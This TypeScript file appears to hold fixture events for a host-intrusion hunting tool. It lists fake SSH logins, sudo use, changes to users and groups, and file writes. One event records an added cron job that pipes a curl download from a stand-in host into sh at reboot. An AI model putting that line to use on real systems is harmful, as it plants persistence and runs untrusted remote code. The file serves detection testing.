/** FAKE events of who signs in, of what changed about users, jobs and files, and of a network of its own. */
import type { HuntEvent } from '@parapet/contract/api';

const overSsh = { 'parapet.login.service': 'sshd', 'source.ip': '192.0.2.77', 'source.port': 50_022 };
const fromText = { 'parapet.source': 'auth log', 'parapet.login.evidence': 'text' };
const compared = { 'parapet.source': 'comparison', 'event.action': 'user-change' };

const written = {
  ...{ 'parapet.source': 'fanotify', 'event.action': 'file-write', 'process.name': 'vim', 'user.name': 'root' },
  'parapet.namespace.net': 4_026_531_840,
};

export const fakeSignIns: readonly HuntEvent[] = [
  {
    ...{ ...fromText, ...overSsh, 'event.action': 'login', 'event.outcome': 'success', 'user.name': 'ann' },
    ...{ 'parapet.login.method': 'publickey', 'parapet.login.key': `SHA256:${'aB3'.repeat(14)}x` },
  },
  {
    ...{ ...fromText, ...overSsh, 'event.action': 'login', 'event.outcome': 'failure', 'user.name': '****' },
    ...{ 'parapet.login.method': 'password', 'parapet.login.reason': 'not accepted' },
  },
  {
    ...{ ...fromText, 'event.action': 'login', 'event.outcome': 'success', 'user.name': 'root' },
    ...{ 'parapet.login.service': 'sudo', 'parapet.login.user.name': 'ann', 'process.tty.name': 'pts/0' },
    'process.command_line': '/usr/bin/mysql -p****',
  },
  {
    ...{ 'parapet.source': 'wtmp', 'parapet.login.evidence': 'record', 'event.action': 'logout' },
    ...{ 'user.name': 'ann', 'process.tty.name': 'pts/0', 'event.duration': 3_600_000_000_000 },
  },
  {
    ...{ 'parapet.source': 'journal', 'parapet.login.evidence': 'forged', 'event.action': 'login' },
    ...{ ...overSsh, 'user.name': 'root' },
  },
  {
    ...{ ...fromText, ...overSsh, 'event.action': 'login', 'event.outcome': 'failure', 'user.name': 'root' },
    ...{ 'parapet.login.evidence': 'container', 'container.id': 'ba5e'.repeat(16), 'container.name': 'bastion-1' },
    'container.image.name': 'registry.example/tools/bastion:3',
  },
  {
    ...{ ...compared, 'file.path': '/etc/group', 'group.name': 'sudo', 'parapet.change.subject': 'group' },
    ...{ 'parapet.change.type': 'changed', 'parapet.change.before': 'gid 27' },
    'parapet.change.after': 'gid 27, members eve',
  },
  {
    ...{ ...compared, 'event.action': 'cron-change', 'file.path': '/var/spool/cron/crontabs/eve' },
    ...{ 'parapet.change.subject': 'cron job', 'parapet.change.type': 'added', 'user.target.name': 'eve' },
    ...{ 'parapet.change.after': '@reboot curl -u me:**** https://x.example/\u001b[2J | sh' },
    'parapet.change.while_away': true,
  },
  {
    ...{ ...written, 'file.path': '/etc/ssh/sshd_config', 'file.hash.sha256': 'c0ffee12'.repeat(8) },
    'parapet.file.previous.sha256': '5eed77aa'.repeat(8),
  },
  { ...written, 'file.path': '/usr/local/bin/backup', 'parapet.file.hash_absent': 'large' },
  { ...written, 'event.action': 'file-delete', 'file.path': '/etc/hosts.deny', 'parapet.file.hash_absent': 'gone' },
  {
    ...{ 'parapet.source': 'ebpf', 'event.action': 'connect', 'network.transport': 'tcp', 'process.name': 'agent' },
    ...{ 'source.ip': '10.200.1.2', 'source.port': 41_212, 'destination.ip': '10.200.1.1', 'destination.port': 5432 },
    'parapet.namespace.net': 4_026_532_611,
  },
];
